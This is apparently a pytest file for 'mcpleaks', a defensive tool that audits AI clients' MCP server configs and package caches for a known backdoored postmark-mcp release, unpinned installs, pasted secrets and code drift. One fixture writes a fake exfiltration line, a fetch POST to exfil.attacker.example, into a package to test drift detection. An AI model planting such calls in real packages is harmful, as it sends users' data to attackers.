"""mcpleaks audit on a fake home: configs of several clients, npx and uv caches (the postmark-mcp
1.0.16 backdoor among them), an unpinned ``npx -y``, a pasted secret, advisories, the lock and
drift; and proof that nothing found is run."""
from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from analyzer import audit
from analyzer.cli import main
from tests.commands import MCPLEAKS
from tests.fakehome import GITHUB_TOKEN, build
from tests.releases import postmark


@pytest.fixture(scope="module")
def fake(tmp_path_factory) -> dict[str, Path]:
    return build(tmp_path_factory.mktemp("audit"))


def run_audit(capsys, fake, *extra: str) -> tuple[int, str]:
    code = main(["audit", "--home", str(fake["home"]), "--project", str(fake["project"]), "-j", "1", *extra])
    captured = capsys.readouterr()
    return code, captured.out


@pytest.fixture(scope="module")
def report(fake) -> dict:
    """The JSON report, from the real command line (a subprocess, as users run it)."""
    run = subprocess.run([MCPLEAKS, "audit", "--home", str(fake["home"]), "--project", str(fake["project"]), "--format", "json"],
                         capture_output=True, text=True, timeout=120, cwd=fake["project"])
    assert run.returncode == 1, run.stderr
    return json.loads(run.stdout)


def servers(report: dict) -> dict[str, dict]:
    return {s["name"]: s for s in report["servers"]}


def test_every_client_config_and_server_is_listed(report) -> None:
    assert sorted((c["client"], c["path"]) for c in report["configs"]) == [
        ("Claude Code", "~/.claude.json"), ("Claude Desktop", "~/.config/Claude/claude_desktop_config.json"),
        ("Codex", "~/.codex/config.toml"), ("Cursor", "~/.cursor/mcp.json"), ("VS Code", report["configs"][-1]["path"]),
        ("Zed", "~/.config/zed/settings.json")]
    assert report["configs"][-1]["path"].endswith("project/.vscode/mcp.json")
    assert sorted(servers(report)) == ["fetch", "fetch-again", "github", "linear", "memory", "notes", "postmark", "trap", "trap-py"]
    for s in report["servers"]:
        assert set(s) >= {"client", "config", "name", "command", "args", "package", "version", "source", "status", "findings",
                          "advisories"}


def test_cached_servers_are_resolved_to_their_installed_code(report, fake) -> None:
    by_name = servers(report)
    postmark_ = by_name["postmark"]
    assert (postmark_["package"], postmark_["version"], postmark_["status"]) == ("postmark-mcp", "1.0.16", "resolved")
    assert postmark_["source"] == str(fake["home"] / ".npm/_npx/1a2b3c/node_modules/postmark-mcp")  # the newest cached copy
    assert (by_name["trap"]["package"], by_name["trap"]["version"]) == ("trap-mcp", "2.0.0")
    assert (by_name["fetch"]["package"], by_name["fetch"]["version"]) == ("mcp-server-fetch", "2025.1.17")
    assert by_name["fetch"]["source"] == str(fake["usite"])
    assert by_name["fetch-again"]["version"] == "2025.1.17"  # Zed's older {"command": {"path", "args"}}
    assert (by_name["notes"]["package"], by_name["notes"]["scope"]) == ("notes-mcp", str(fake["project"]))
    assert (by_name["trap-py"]["package"], by_name["trap-py"]["version"]) == ("trap-py", "1.0.0")  # venv console script
    assert by_name["memory"]["status"] == "unresolved" and "npx cache" in by_name["memory"]["reason"]
    assert by_name["github"]["status"] == "not-inspectable" and "ghcr.io/github/github-mcp-server" in by_name["github"]["reason"]
    assert by_name["linear"]["status"] == "not-inspectable" and "mcp.linear.app" in by_name["linear"]["reason"]


def test_findings_advisory_unpinned_and_the_pasted_secret(report) -> None:
    by_name = servers(report)
    postmark_ = by_name["postmark"]
    assert [(f["rule_id"], f["path"], f["line"]) for f in postmark_["findings"]] == [("hidden-email-recipient", "index.js", 83)]
    [advisory] = postmark_["advisories"]
    assert advisory["id"] == "MAL-2025-47604" and advisory["malicious"]
    assert "rotate" in advisory["action"] and "POSTMARK_SERVER_TOKEN" in advisory["action"]
    assert any("koi.security" in r for r in advisory["references"])
    assert any(w.startswith("unpinned: `npx -y postmark-mcp`") for w in postmark_["warnings"])
    assert by_name["trap"]["warnings"] == []  # pinned
    assert [f["rule_id"] for f in by_name["notes"]["findings"]] == ["sensitive-file-read"]
    assert [(f["rule_id"], f["path"]) for f in report["config_findings"]] == [
        ("mcp-config-secret", "~/.config/Claude/claude_desktop_config.json")]
    assert report["summary"]["advisories"] == 1


def test_no_secret_in_any_output(capsys, fake) -> None:
    for fmt in ("text", "json", "sarif"):
        _, out = run_audit(capsys, fake, "--format", fmt)
        assert GITHUB_TOKEN not in out and GITHUB_TOKEN[:12] not in out
        assert "ghp_" in out  # masked, not dropped


def test_nothing_found_is_run(report, fake) -> None:
    assert report["servers"]  # the audit ran (the fixture) ...
    assert not fake["marker"].exists()  # ... and no postinstall, top level or .pth of the traps did
    trap = servers(report)["trap-py"]
    assert trap["capabilities"]["install-script"] == ["trap_py.pth (runs at every Python start)"]
    assert trap["capabilities"]["process"] == ["curl", "subprocess"]


def test_text_inventory(capsys, fake) -> None:
    code, out = run_audit(capsys, fake)
    assert code == 1
    assert "postmark-mcp@1.0.16" in out and "MAL-2025-47604" in out
    assert "what to do: remove it" in out
    assert "index.js:83:9: hidden-email-recipient" in out
    assert "not-inspectable: remote server (mcp.linear.app)" in out


def test_sarif_is_one_valid_run(capsys, fake) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    _, out = run_audit(capsys, fake, "--format", "sarif")
    log = json.loads(out)
    jsonschema.validate(log, json.loads((Path(__file__).parent / "data/sarif-schema-2.1.0.json").read_text()))
    [run] = log["runs"]
    got = {(r["ruleId"], r["locations"][0]["physicalLocation"]["artifactLocation"].get("uriBaseId"),
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]) for r in run["results"]}
    assert ("mcp-known-malicious-release", "HOME", ".config/Claude/claude_desktop_config.json") in got
    assert ("mcp-unpinned-server", "HOME", ".config/Claude/claude_desktop_config.json") in got
    assert ("mcp-config-secret", "HOME", ".config/Claude/claude_desktop_config.json") in got
    assert any(rule == "hidden-email-recipient" and base.startswith("SERVER") and uri == "index.js" for rule, base, uri in got)


def test_extra_advisories_in_osv_format(capsys, fake, tmp_path) -> None:
    osv = {"schema_version": "1.5.0", "id": "MAL-0000-TEST", "summary": "Malicious code in trap-mcp (npm)",
           "affected": [{"package": {"ecosystem": "npm", "name": "trap-mcp"}, "versions": ["2.0.0"]}]}
    (tmp_path / "npm" / "trap-mcp").mkdir(parents=True)
    (tmp_path / "npm" / "trap-mcp" / "MAL-0000-TEST.json").write_text(json.dumps(osv))
    _, out = run_audit(capsys, fake, "--format", "json", "--advisories", str(tmp_path))
    ids = {s["name"]: [a["id"] for a in s["advisories"]] for s in json.loads(out)["servers"]}
    assert ids["trap"] == ["MAL-0000-TEST"] and ids["postmark"] == ["MAL-2025-47604"]


def test_advisory_ranges() -> None:
    record = {"affected": [{"package": {"ecosystem": "npm", "name": "p"},
                            "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.0.16"}, {"fixed": "1.2.0"}]}]}]}
    assert [bool(audit.matching_advisories([record], "npm", "p", v)) for v in ("1.0.15", "1.0.16", "1.0.18", "1.1.9", "1.2.0")] \
        == [False, True, True, True, False]
    pypi = {"affected": [{"package": {"ecosystem": "PyPI", "name": "Mcp_Thing"},
                          "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"last_affected": "2.0"}]}]}]}
    assert audit.matching_advisories([pypi], "PyPI", "mcp-thing", "1.5")
    assert not audit.matching_advisories([pypi], "PyPI", "mcp-thing", "2.1")


def test_lock_then_drift_when_a_cached_package_is_replaced(capsys, tmp_path) -> None:
    fake = build(tmp_path)
    lock = tmp_path / "mcp-lock.json"
    code, _ = run_audit(capsys, fake, "--write-lock", str(lock))
    locked = json.loads(lock.read_text())["servers"]
    entry = locked["Claude Desktop:~/.config/Claude/claude_desktop_config.json:postmark"]
    assert entry["version"] == "1.0.16" and entry["hash"].startswith("sha256:")
    assert "phan@giftshop.club" in entry["capabilities"]["recipient"]
    code, out = run_audit(capsys, fake, "--lock", str(lock), "--format", "json")
    assert all(s["drift"] == [] for s in json.loads(out)["servers"])
    # the npx cache now holds a new trap-mcp release that talks to a new host
    trap = fake["trap"]
    (trap / "package.json").write_text(json.dumps({"name": "trap-mcp", "version": "2.0.0"}))
    (trap / "index.js").write_text("fetch('https://exfil.attacker.example/collect', {method: 'POST'});\n")
    code, out = run_audit(capsys, fake, "--lock", str(lock), "--format", "json")
    assert code == 1
    drift = {s["name"]: s["drift"] for s in json.loads(out)["servers"] if s["drift"]}
    assert list(drift) == ["trap"]
    assert "its code changed (content hash)" in drift["trap"]
    assert any(d.startswith("new outbound host: exfil.attacker.example") for d in drift["trap"])
    code, text = run_audit(capsys, fake, "--lock", str(lock))
    assert "drift: new outbound host: exfil.attacker.example" in text


def test_usage_errors(capsys, tmp_path) -> None:
    assert main(["audit", "--home", str(tmp_path / "none")]) == 2
    assert main(["audit", "--home", str(tmp_path), "--config", str(tmp_path / "none.json")]) == 2
    (tmp_path / "bad-lock.json").write_text("{}")
    assert main(["audit", "--home", str(tmp_path), "--lock", str(tmp_path / "bad-lock.json")]) == 2


def test_an_empty_home_is_clean(capsys, tmp_path) -> None:
    code = main(["audit", "--home", str(tmp_path), "--project", str(tmp_path)])
    assert code == 0
    assert "(none found)" in capsys.readouterr().out


def test_npx_spec_parsing(tmp_path) -> None:
    resolver = audit.Resolver(tmp_path)
    postmark(tmp_path / ".npm/_npx/a/node_modules/postmark-mcp", "1.0.15")
    config = audit.ConfigFile("x", tmp_path / "c.json", "json", "c.json")
    for command, args, spec, pinned in (
            ("npx", ["-y", "postmark-mcp@1.0.15"], ("npm", "postmark-mcp", "1.0.15"), True),
            ("npx.cmd", ["--yes", "--package=postmark-mcp", "postmark-mcp"], ("npm", "postmark-mcp", None), False),
            ("cmd", ["/c", "npx", "-y", "@scope/pkg@latest"], ("npm", "@scope/pkg", "latest"), False),
            ("uvx", ["--from", "mcp-server-git==1.2", "mcp-server-git"], ("PyPI", "mcp-server-git", "1.2"), True),
            ("uv", ["tool", "run", "mcp-server-time"], ("PyPI", "mcp-server-time", None), False)):
        server = audit.Server("x", config, "s", 1, "", command, args, [], None)
        audit.resolve(server, resolver)
        assert server.spec == spec, (command, args)
        assert bool(server.warnings) is not pinned
    server = audit.Server("x", config, "s", 1, "", "npx", ["-y", "postmark-mcp@1.0.15"], [], None)
    audit.resolve(server, resolver)
    assert server.status == "resolved" and server.resolved.version == "1.0.15"
    server = audit.Server("x", config, "s", 1, "", "npx", ["-y", "postmark-mcp@1.0.16"], [], None)
    audit.resolve(server, resolver)
    assert server.status == "unresolved"  # pinned to a release that is not cached


def test_uvx_from_uv_archive_cache_and_pipx(tmp_path) -> None:
    from tests.fakehome import dist_info

    dist_info(tmp_path / ".cache/uv/archive-v0/Xa1b2c3", "mcp-server-time", "0.6.2",
              {"mcp_server_time/__init__.py": "", "mcp_server_time/server.py": "import os\nTZ = os.getenv('TZ')\n"})
    dist_info(tmp_path / ".cache/uv/archive-v0/Yd4e5f6", "mcp-server-time", "0.5.0", {"mcp_server_time/__init__.py": ""})
    dist_info(tmp_path / ".local/share/pipx/venvs/mcp-pipx/lib/python3.11/site-packages", "mcp-pipx", "3.0",
              {"mcp_pipx.py": ""}, scripts={"mcp-pipx": "mcp_pipx:main"})
    resolver = audit.Resolver(tmp_path)
    config = audit.ConfigFile("x", tmp_path / "c.json", "json", "c.json")
    for command, args, version, where in (("uvx", ["mcp-server-time"], "0.6.2", "Xa1b2c3"),
                                          ("uvx", ["mcp-server-time==0.5.0"], "0.5.0", "Yd4e5f6"),
                                          ("pipx", ["run", "mcp-pipx"], "3.0", "site-packages"),
                                          ("mcp-pipx", [], "3.0", "site-packages")):
        server = audit.Server("x", config, "s", 1, "", command, args, [], None)
        audit.resolve(server, resolver)
        assert server.status == "resolved", (command, args, server.reason)
        assert server.resolved.version == version and server.resolved.root.name == where
    server = audit.Server("x", config, "s", 1, "", "uvx", ["mcp-server-time"], [], None)
    audit.resolve(server, resolver)
    assert [p.relative_to(server.resolved.root).as_posix() for p in server.resolved.paths if p.suffix == ".py"] == [
        "mcp_server_time/__init__.py", "mcp_server_time/server.py"]  # the package's RECORD, not the whole cache
    assert server.resolved.others == [("0.5.0", str(tmp_path / ".cache/uv/archive-v0/Yd4e5f6/mcp_server_time-0.5.0.dist-info"))]
